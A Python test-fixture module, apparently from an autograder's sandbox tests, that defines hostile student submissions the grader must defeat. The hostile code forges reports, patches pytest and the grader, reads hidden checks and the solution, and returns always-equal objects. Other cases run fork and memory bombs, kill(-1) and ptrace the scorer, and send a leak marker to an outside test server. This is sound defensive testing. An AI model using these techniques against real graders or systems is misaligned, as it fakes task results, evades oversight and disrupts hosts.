"""Hostile submissions: each tries one attack on the grader and must gain nothing by it.

Most are the untouched template (student_template/) plus an attack: at import (module level of
image_classifier_operations.py, so it runs in the worker's zygote), in a method the offline
checks call (``push_image_to_ecr``: four checks), or as extra files in the submission's
folder. They must score exactly what the template scores, on every checkpoint. A few attack
a correct submission (the reference) instead, and must lose exactly the checkpoints whose
answers they fake (`loses`).

Every run must still end with a complete report and exit 0, leave nothing running, and leave
the grader's files as they were. Placeholders in the attack code: ``{report_dir}`` (the run's
report folder), ``{project}`` (this checkout) and ``{marker}`` (a number that processes the
attack starts carry in their command line, to find any that survives).
"""

from __future__ import annotations

import shutil
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

from submissions.faults import OPS, OPS_CLASS, REFERENCE, S3_IO, ReplaceDef

ROOT = Path(__file__).resolve().parents[2]
TEMPLATE = ROOT / "student_template"
FAKE_REPORT = '{"score": 100, "max_score": 100, "bonus_score": 15, "checkpoints": []}'


@dataclass(frozen=True)
class Hostile:
    name: str
    attack: str  # what it tries, in a sentence
    at_import: str = ""  # code run at the import of image_classifier_operations.py
    push: str = ""  # the body of push_image_to_ecr (called by the checks of classifier_image_pushed)
    files: dict[str, str] = field(default_factory=dict)  # extra files in the submission's folder
    base: str = "template"  # or "reference"
    replace: tuple[tuple[str, str], ...] = ()  # (file, "Class.method" or "function", new definition)
    loses: frozenset[str] = frozenset()  # reference-based: the checkpoints it must lose
    flagged: bool = False  # the report must flag an attempt to reach the grader or the solution
    # Also graded without the sandbox (plain process mode, as on a laptop): only attacks that mode
    # protects against (it runs the code with the user's own rights, see grader/worker/sandbox.py).
    process_mode: bool = False
    # Also graded in the Gradescope stand-in (tests/test_gradescope_standin.py): a container with
    # Docker's default seccomp profile, where bubblewrap is refused.
    gradescope: bool = False
    # Text of the grader's files that must appear nowhere in what the student reads.
    leaks: tuple[str, ...] = ()


def _push(body: str) -> str:
    return ("def push_image_to_ecr(self, local_image, repository_uri, tag=\"latest\", docker_client=None):\n"
            + textwrap.indent(textwrap.dedent(body).strip() + "\n", "    "))


HOSTILE: tuple[Hostile, ...] = (
    # --- the grader's own process --------------------------------------------------------------
    Hostile("patch_pytest_internals", "Patches pytest's and pluggy's report and hook objects at import.",
            at_import="""
            try:
                import _pytest.reports, _pytest.runner, pluggy
                _pytest.reports.BaseReport.passed = property(lambda self: True)
                _pytest.reports.BaseReport.failed = property(lambda self: False)
                _pytest.runner.call_and_report = lambda *a, **k: None
                pluggy.HookCaller.__call__ = lambda self, *a, **k: []
            except Exception:
                pass
            """),
    Hostile("patch_grader_modules", "Replaces grader functions and its CheckFailed exception at import.",
            at_import="""
            try:
                sys.path.insert(0, "{project}")
                import grader.plugin, grader.feedback, grader.results
                grader.feedback.CheckFailed = type("CheckFailed", (Exception,), {{}})
                grader.feedback.expect = lambda *a, **k: None
                grader.results.grade_checkpoint = lambda checkpoint, *a, **k: None
            except Exception:
                pass
            """, flagged=True, process_mode=True, gradescope=True),
    Hostile("pytest_control_flow", "Its methods raise pytest's skip and xfail outcomes, KeyboardInterrupt or "
            "SystemExit, so that a check is left out of the points.",
            at_import="""
            try:
                import pytest
                Skipped, XFailed = pytest.skip.Exception, pytest.xfail.Exception
            except ImportError:  # the worker has no pytest: the same classes, by name and module
                Skipped = type("Skipped", (BaseException,), {{"__module__": "_pytest.outcomes"}})
                XFailed = type("XFailed", (Exception,), {{"__module__": "_pytest.outcomes"}})
            """,
            push="""
            raise Skipped("hors sujet")
            """,
            replace=((OPS, f"{OPS_CLASS}.register_image_classifier_task_definition",
                      "def register_image_classifier_task_definition(self, *a, **k):\n"
                      "    raise XFailed('pas aujourd\\'hui')\n"),
                     (OPS, f"{OPS_CLASS}.run_image_classification_task",
                      "def run_image_classification_task(self, *a, **k):\n    raise KeyboardInterrupt\n"),
                     (OPS, f"{OPS_CLASS}.monitor_task",
                      "def monitor_task(self, *a, **k):\n    raise SystemExit(0)\n"))),
    Hostile("report_rewrite_atexit", "Registers an atexit hook that writes a perfect report.json.",
            at_import="""
            import atexit
            def _forge():
                for name in ("report.json", "results.json", "report.md", "report.html"):
                    try:
                        open("{report_dir}/" + name, "w").write('{fake}')
                    except Exception:
                        pass
            atexit.register(_forge)
            """),
    Hostile("report_rewrite_thread", "A background thread keeps rewriting the report files.",
            at_import="""
            import threading
            def _forge():
                while True:
                    for name in ("report.json", "results.json"):
                        try:
                            open("{report_dir}/" + name, "w").write('{fake}')
                        except Exception:
                            pass
                    time.sleep(0.05)
            threading.Thread(target=_forge).start()
            """),
    Hostile("report_rewrite_forked_child", "A double-forked child outlives the call and rewrites the reports later.",
            push="""
            import os, sys
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execv(sys.executable, [sys.executable, "-c", '''import time; time.sleep(30); open("{report_dir}/report.json", "w").write('{fake}')''', "{marker}"])
                os._exit(0)
            return repository_uri + ":" + tag
            """, process_mode=True, gradescope=True),
    Hostile("edit_grader_files", "Empties, deletes and rewrites files of the grader and the solution.",
            at_import="""
            import os
            for path in ("{project}/grader/plugin.py", "{project}/grader/catalogue.yaml",
                         "{project}/grader/templates/report.html.j2", "{project}/checks/offline/conftest.py"):
                try:
                    open(path, "w").write("")
                except Exception:
                    pass
                try:
                    os.remove(path)
                except Exception:
                    pass
            """, flagged=True, gradescope=True),
    # --- the worker's resources -----------------------------------------------------------------
    Hostile("signal_handlers", "Ignores SIGTERM, SIGALRM and SIGINT, then loops forever.",
            at_import="""
            import signal
            for number in (signal.SIGTERM, signal.SIGALRM, signal.SIGINT, signal.SIGHUP):
                signal.signal(number, signal.SIG_IGN)
            """,
            push="""
            while True:
                try:
                    pass
                except BaseException:
                    pass
            """),
    Hostile("read_stdin", "Waits for standard input.", push="""
            import sys
            return sys.stdin.read() + input()
            """),
    Hostile("flood_output", "Prints 100 MB, then returns the expected value.", push="""
            import sys
            chunk = "PASSED réussi 8/8 " * 1000
            for _ in range(100 * 1024 * 1024 // len(chunk)):
                sys.stdout.write(chunk)
            return repository_uri + ":" + tag
            """),
    Hostile("deep_recursion", "Recurses without end (RecursionError).", push="""
            def down(n):
                return down(n + 1) + 1
            return down(0)
            """),
    Hostile("segfault", "Reads address 0 through ctypes (SIGSEGV).", push="""
            import ctypes
            return ctypes.string_at(0)
            """),
    Hostile("c_stack_overflow", "Lifts the recursion limit and overflows the C stack.", push="""
            import sys
            sys.setrecursionlimit(10 ** 8)
            def down(n):
                return down(n + 1)
            return down(0)
            """),
    Hostile("kill_itself", "Sends SIGKILL to its own process.", push="""
            import os, signal
            os.kill(os.getpid(), signal.SIGKILL)
            """),
    Hostile("posix_exit", "Ends its process with posix._exit(0) before answering.", push="""
            import posix
            posix._exit(0)
            """),
    Hostile("faulthandler_exit", "Aborts through faulthandler.", push="""
            import faulthandler
            faulthandler._sigabrt()
            """),
    Hostile("memory_bomb", "Allocates far more memory than the limit, two ways.", push="""
            hoard = [bytearray(50 * 1024 * 1024) for _ in range(200)]
            return repository_uri + ":" + tag
            """,
            replace=((OPS, f"{OPS_CLASS}.register_image_classifier_task_definition",
                      "def register_image_classifier_task_definition(self, *a, **k):\n"
                      "    return bytearray(64 * 1024 ** 3)\n"),), gradescope=True),
    Hostile("fork_bomb", "Forks without end.", push="""
            import os
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
            """, gradescope=True),
    Hostile("non_daemon_threads", "Starts threads that never end, then answers.", push="""
            import threading, time as _time
            for _ in range(5):
                threading.Thread(target=lambda: _time.sleep(10 ** 6), daemon=False).start()
            return repository_uri + ":" + tag
            """),
    Hostile("close_stdout", "Closes sys.stdout and file descriptors 1 and 2 at import.", at_import="""
            import os
            sys.stdout.close()
            sys.stderr.close()
            os.close(1)
            os.close(2)
            """),
    Hostile("environment_and_cwd", "Changes environment variables and the working directory.", at_import="""
            import os
            os.environ["AWS_ENDPOINT_URL"] = "http://127.0.0.1:1"
            os.environ["AWS_ACCESS_KEY_ID"] = "AKIASCORERINPROCESS0"
            os.environ["ECS_LAB_LANG"] = "en"
            os.chdir("/")
            """, gradescope=True),
    Hostile("patch_time_and_builtins", "Replaces time functions and builtins used by the grader.", at_import="""
            import builtins, json as _json
            time.sleep = lambda seconds: None
            time.time = lambda: 0.0
            time.monotonic = lambda: 0.0
            builtins.isinstance = lambda obj, kind: True
            _json.dumps = lambda *a, **k: '{{"op": "answer", "status": "returned", "value": "ok"}}'
            """),
    # --- what the checks judge ------------------------------------------------------------------
    Hostile("eq_always_true", "Returns objects equal to everything instead of doing the work.",
            base="reference",
            replace=((OPS, f"{OPS_CLASS}.register_image_classifier_task_definition",
                      "def register_image_classifier_task_definition(self, *a, **k):\n"
                      "    class Anything(str):\n"
                      "        def __eq__(self, other):\n            return True\n"
                      "        def __ne__(self, other):\n            return False\n"
                      "        __hash__ = str.__hash__\n"
                      "    return Anything('arn:aws:ecs:eu-west-1:123456789012:task-definition/image-classifier:1')\n"),
                     (OPS, f"{OPS_CLASS}.download_s3_result",
                      "def download_s3_result(self, output_s3_uri):\n"
                      "    class Anything(dict):\n"
                      "        def __eq__(self, other):\n            return True\n"
                      "    return Anything()\n"),
                     (S3_IO, "parse_s3_uri",
                      "def parse_s3_uri(uri):\n"
                      "    class Anything(tuple):\n"
                      "        def __eq__(self, other):\n            return True\n"
                      "    if not str(uri).startswith('s3://'):\n        raise ValueError(uri)\n"
                      "    return Anything()\n")),
            # download_image and upload_result unpack parse_s3_uri's fake tuple: they break too.
            loses=frozenset({"task_definition", "bonus_result_in_s3", "bonus_s3_uris", "bonus_s3_download",
                             "bonus_s3_upload", "main_runs"})),
    Hostile("fake_success_prints", "Prints success lines and the expected label, returns 0, does nothing.",
            replace=((OPS, "run_image_classification_lab",
                      "def run_image_classification_lab(image_url=TIGER_URL, region='eu-west-1', session=None):\n"
                      "    print('PASSED checks/offline/test_main_runs.py')\n"
                      "    print('[réussi    ]  7/7  Script Python exécuté sans erreur (main_runs)')\n"
                      "    for label in ('tiger, Panthera tigris', 'tabby, tabby cat', 'golden retriever', 'espresso',\n"
                      "                  'speedboat', 'lakeside', 'missile', 'moped', 'Egyptian cat', 'jaguar'):\n"
                      "        print('1.', label, ': 87.31 %')\n"
                      "    print('Classification terminée avec succès.')\n"
                      "    return 0\n"),)),
    Hostile("shadowing_files", "Ships boto3.py, sitecustomize.py, conftest.py and pytest.ini beside its files.",
            files={
                "boto3.py": "raise SystemExit('boto3 remplacé')\n",
                "sitecustomize.py": "open('{report_dir}/report.json', 'w').write('{fake}')\n",
                "usercustomize.py": "open('{report_dir}/results.json', 'w').write('{fake}')\n",
                "conftest.py": ("import pytest\n\n@pytest.hookimpl(wrapper=True)\n"
                                "def pytest_runtest_makereport(item, call):\n"
                                "    report = yield\n    report.outcome = 'passed'\n    return report\n"),
                "pytest.ini": "[pytest]\naddopts = -p no:grader.plugin -p no:timeout\n",
                "json.py": "raise ImportError('json remplacé')\n",
            }, gradescope=True),
    Hostile("import_the_solution", "Imports the reference solution and the grader to copy their behaviour.",
            at_import="""
            try:
                sys.path.insert(0, "{project}")
                from reference.image_classifier_operations import ImageClassifierOperations as _Solution
                ImageClassifierOperations = _Solution
            except Exception:
                pass
            """, flagged=True, process_mode=True, gradescope=True),
    Hostile("read_the_solution", "Reads the solution's file and runs it.", at_import="""
            try:
                exec(open("{project}/reference/image_classifier_operations.py").read())
            except Exception:
                pass
            """, flagged=True, gradescope=True),
    Hostile("moto_admin_api", "Calls moto's own control API (reset, state manager) to upset the grader's scenarios.",
            base="reference", at_import="""
            import os, urllib.request
            def _moto(path, data=b"{{}}"):
                try:
                    urllib.request.urlopen(urllib.request.Request(os.environ["AWS_ENDPOINT_URL"] + path, data=data),
                                           timeout=2).read()
                except Exception:
                    pass
            _moto("/moto-api/reset")
            _moto("/moto-api/state-manager/set-transition",
                  b'{{"model_name": "ecs::task", "transition": {{"progression": "immediate"}}}}')
            """,
            replace=((OPS, f"{OPS_CLASS}.monitor_task",
                      "def monitor_task(self, cluster_name, task_arn, poll_interval=30.0, timeout=900.0):\n"
                      "    import os, urllib.request\n"
                      "    urllib.request.urlopen(urllib.request.Request(os.environ['AWS_ENDPOINT_URL'] + "
                      "'/moto-api/reset', data=b'{}'), timeout=2)\n"
                      "    return {'taskArn': task_arn, 'lastStatus': 'STOPPED'}\n"),),
            loses=frozenset({"task_monitoring", "main_runs"}), gradescope=True),
    # --- where bubblewrap is refused (a Gradescope container, a hosted runner, Fargate) -----------
    Hostile("kill_parent_double_fork", "Kills the process that forked it (its worker), after a double fork "
            "into a new session whose child outlives everything and rewrites the reports.",
            push="""
            import os, signal, sys
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execv(sys.executable, [sys.executable, "-c", '''import time; time.sleep(30); open("{report_dir}/report.json", "w").write('{fake}')''', "{marker}"])
                os._exit(0)
            os.kill(os.getppid(), signal.SIGKILL)
            return repository_uri + ":" + tag
            """, process_mode=True, gradescope=True),
    Hostile("print_grader_files", "Reads the hidden checks, the catalogue and the autograder's scripts and "
            "prints them into its own feedback.",
            at_import="""
            import glob, os
            _seen = []
            for pattern in ("{project}/checks/offline/*.py", "{project}/grader/catalogue.yaml",
                            "{project}/grader/*.py", "/autograder/run_autograder", "/autograder/source/setup.sh",
                            os.path.dirname(os.__file__) + "/site-packages/grader/catalogue.yaml",
                            "/autograder/venv/lib/python3*/site-packages/grader/catalogue.yaml",
                            "/autograder/venv/lib/python3*/site-packages/checks/offline/*.py"):
                for path in glob.glob(pattern) or [pattern]:
                    try:
                        _seen.append(open(path).read()[:2000])
                    except Exception as error:
                        _seen.append(repr(error))
            _LEAK = "\\n".join(_seen)
            """,
            push="""
            print(_LEAK)
            raise RuntimeError(_LEAK[:3000])
            """, flagged=True, process_mode=True, gradescope=True,
            leaks=("def test_", "points:", "grader.lms.autograder")),
    Hostile("allocate_beyond_memory", "Allocates more memory than the container has (600 MiB at once, then "
            "more in steps), touching every page.",
            push="""
            big = bytearray(600 * 1024 * 1024)
            for i in range(0, len(big), 4096):
                big[i] = 1
            hoard = []
            while True:
                chunk = bytearray(32 * 1024 * 1024)
                for i in range(0, len(chunk), 4096):
                    chunk[i] = 1
                hoard.append(chunk)
            """, process_mode=True, gradescope=True),
    Hostile("connect_outside", "Connects to a server outside the grader (the test's own, on the host's Docker "
            "bridge or loopback) with socket.create_connection, a raw socket and urllib, and sends it a marker.",
            at_import="""
            import socket, urllib.request
            _host, _port = "{outside}".rsplit(":", 1)
            try:
                socket.create_connection((_host, int(_port)), timeout=2).sendall(b"LEAK-{marker}")
            except Exception:
                pass
            try:
                _raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                _raw.settimeout(2)
                _raw.connect((_host, int(_port)))
                _raw.sendall(b"LEAK-{marker}")
            except Exception:
                pass
            try:
                urllib.request.urlopen("http://{outside}/LEAK-{marker}", timeout=2).read()
            except Exception:
                pass
            """, process_mode=True, gradescope=True),
    Hostile("ptrace_the_scorer", "Attaches to the scorer (its worker's parent) with ptrace, which would stop it, "
            "and reads its memory with process_vm_readv.",
            at_import="""
            import ctypes, os
            _libc = ctypes.CDLL(None, use_errno=True)
            def _parent(pid):
                return int(open(f"/proc/{{pid}}/stat").read().rsplit(")", 1)[1].split()[1])
            try:
                _scorer = _parent(os.getppid())
                if _scorer > 1:
                    _libc.ptrace(16, _scorer, 0, 0)  # PTRACE_ATTACH
                    _buffer = ctypes.create_string_buffer(4096)
                    _local = (ctypes.c_void_p * 2)(ctypes.cast(_buffer, ctypes.c_void_p), 4096)
                    _libc.process_vm_readv(_scorer, _local, 1, _local, 1, 0)
            except Exception:
                pass
            """, process_mode=True, gradescope=True),
    # Not graded in process mode on the project's own machine: as root, without a user of its own,
    # kill(-1) is held back only by the filters this run tests (the containers' runs test them).
    Hostile("kill_the_scorer", "Kills every process it may (kill(-1)), then the scorer (its worker's parent) and "
            "its process group, by pid and through a pidfd.",
            at_import="""
            import os, signal
            def _parent(pid):
                return int(open(f"/proc/{{pid}}/stat").read().rsplit(")", 1)[1].split()[1])
            try:
                os.kill(-1, signal.SIGKILL)
            except Exception:
                pass
            try:
                _scorer = _parent(os.getppid())
                if _scorer > 1:
                    for _target in (_scorer, -os.getpgid(_scorer)):
                        try:
                            os.kill(_target, signal.SIGKILL)
                        except Exception:
                            pass
                    signal.pidfd_send_signal(os.pidfd_open(_scorer), signal.SIGKILL)
            except Exception:
                pass
            """, gradescope=True),
    Hostile("forge_worker_answers", "Writes fake answers on the worker's control socket.", push="""
            import json, os, socket, struct
            fake = json.dumps({{"op": "answer", "status": "returned", "value": repository_uri + ":" + tag,
                               "flags": []}}).encode()
            for fd in range(3, 64):
                try:
                    os.write(fd, struct.pack(">I", len(fake)) + fake + b"garbage" * 1000)
                except OSError:
                    pass
            return repository_uri + ":" + tag
            """, gradescope=True),
)


class OutsideServer:
    """A TCP server outside the grader, recording every byte it receives (connect_outside must send none)."""

    def __init__(self, host: str) -> None:
        import socket
        import threading

        self._data = bytearray()
        self._lock = threading.Lock()
        self._listener = socket.create_server((host, 0))
        self.address = f"{host}:{self._listener.getsockname()[1]}"
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        import threading

        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            threading.Thread(target=self._read, args=(connection,), daemon=True).start()

    def _read(self, connection) -> None:
        with connection:
            connection.settimeout(5)
            try:
                while chunk := connection.recv(65536):
                    with self._lock:
                        self._data += chunk
            except OSError:
                pass

    def received(self) -> bytes:
        with self._lock:
            return bytes(self._data)

    def __enter__(self) -> "OutsideServer":
        return self

    def __exit__(self, *exc) -> None:
        self._listener.close()


def by_name(name: str) -> Hostile:
    return next(h for h in HOSTILE if h.name == name)


def _fill(code: str, *, report_dir: Path, marker: int, project: Path = ROOT, outside: str = "127.0.0.1:9") -> str:
    return textwrap.dedent(code).strip("\n").format(report_dir=report_dir, project=project, marker=marker,
                                                    fake=FAKE_REPORT, outside=outside)


def materialise(hostile: Hostile, directory: Path, *, report_dir: Path, marker: int, project: Path = ROOT,
                outside: str = "127.0.0.1:9") -> Path:
    """Write `hostile` into `directory` (created); returns it."""
    directory.mkdir(parents=True, exist_ok=True)
    places = {"report_dir": report_dir, "marker": marker, "project": project, "outside": outside}
    base = REFERENCE if hostile.base == "reference" else TEMPLATE
    for name in (OPS, S3_IO):
        shutil.copyfile(base / name, directory / name)
    ops = directory / OPS
    text = ops.read_text(encoding="utf-8")
    for file, definition, new in hostile.replace:
        path = directory / file
        path.write_text(ReplaceDef(file, definition, new).apply(path.read_text(encoding="utf-8")), encoding="utf-8")
    text = ops.read_text(encoding="utf-8")
    if hostile.push:
        text = ReplaceDef(OPS, f"{OPS_CLASS}.push_image_to_ecr",
                          _push(_fill(hostile.push, **places))).apply(text)
    if hostile.at_import:
        anchor = "from botocore.exceptions import BotoCoreError, ClientError\n"
        attack = _fill(hostile.at_import, **places)
        text = text.replace(anchor, anchor + "\n# --- attack ---\n" + attack + "\n# --- end of the attack ---\n", 1)
    ops.write_text(text, encoding="utf-8")
    for name, content in hostile.files.items():
        (directory / name).write_text(_fill(content, **places), encoding="utf-8")
    return directory
